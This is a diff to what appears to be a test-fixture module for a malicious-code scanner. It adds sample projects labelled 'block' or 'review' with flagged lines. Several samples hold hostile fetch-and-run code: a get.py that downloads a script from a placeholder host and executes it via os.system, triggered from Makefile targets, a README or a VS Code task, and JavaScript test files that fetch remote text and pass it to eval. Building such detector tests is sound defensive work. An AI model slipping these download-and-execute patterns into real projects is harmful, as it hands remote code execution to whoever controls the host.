@@ -1,11 +1,19 @@
 """What ordinary projects do, as honest packages showed it; and beside it the hostile deed that differs in one thing."""
 
-from inspection.rules.sample import Sample
+from inspection.rules.sample import Sample, task
 
 _RUNNER = "import subprocess\ndef run(command):\n    return subprocess.check_output(command)\n"
 _SAVE = (
     "import os, subprocess, sys, urllib.request\npath = '/tmp/' + sys.argv[1]\n"
     "urllib.request.urlretrieve('https://a.invalid/x', path)\n"
+)
+_INSTALLER = (
+    "import os, urllib.request\nurllib.request.urlretrieve('https://a.invalid/x.py', 'x.py')\n"
+    "os.system('python x.py')\n"
+)
+_SPEC = (
+    "function load(name) {\n  const req = new XMLHttpRequest();\n  req.open('GET', `fixtures/${name}`, false);\n"
+    "  req.send();\n  return req.responseText;\n}\neval(load('index.js'));\n"
 )
 _FETCH = "import requests\nfrom runner import run\nreply = requests.get('https://a.invalid').json()\n"
 
@@ -50,6 +58,30 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             },
             "block",
             ("app.py", 3),
+        ),
+        "an installer by a target that somebody asks for": Sample(
+            {"Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n", "get.py": _INSTALLER}, "review", ("get.py", 3)
+        ),
+        "an installer by the plain target": Sample(
+            {"Makefile": "all: get-x\nget-x:\n\tpython get.py\n", "get.py": _INSTALLER}, "block", ("get.py", 3)
+        ),
+        "an installer by a target that a manual asks for": Sample(
+            {
+                "Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n",
+                "get.py": _INSTALLER,
+                "README.md": "# A task\n\n```sh\nmake get-x\n```\n",
+            },
+            "block",
+            ("get.py", 3),
+        ),
+        "an installer by a target that the editor asks for": Sample(
+            {
+                "Makefile": "all:\n\techo hi\nget-x:\n\tpython get.py\n",
+                "get.py": _INSTALLER,
+                ".vscode/tasks.json": task("make get-x"),
+            },
+            "block",
+            ("get.py", 3),
         ),
         "what was fetched is unpacked, and run in the same line": Sample(
             {"app.py": _SAVE + "os.system(f'tar xf {path} && {path}')\n"}, "block", ("app.py", 4)
@@ -183,6 +215,24 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             },
             "block",
             ("app.py", 4),
+        ),
+        "a test asks the server of its page": Sample(
+            {"search.spec.js": _SPEC, "tox.ini": "[testenv]\ncommands = pytest\n"}, "review", ("search.spec.js", 7)
+        ),
+        "a test that a script's runner starts": Sample(
+            {"search.spec.js": _SPEC, "package.json": '{"scripts": {\n"test": "jest"}}'},
+            "block",
+            ("search.spec.js", 7),
+        ),
+        "a test that a script starts": Sample(
+            {"search.spec.js": _SPEC, "package.json": '{"scripts": {\n"test": "node search.spec.js"}}'},
+            "block",
+            ("search.spec.js", 7),
+        ),
+        "a test that fetches by itself": Sample(
+            {"search.spec.js": "fetch('https://a.invalid').then(r => r.text())\n  .then(eval);\n"},
+            "block",
+            ("search.spec.js", 2),
         ),
         "what a property gives": Sample(
             {
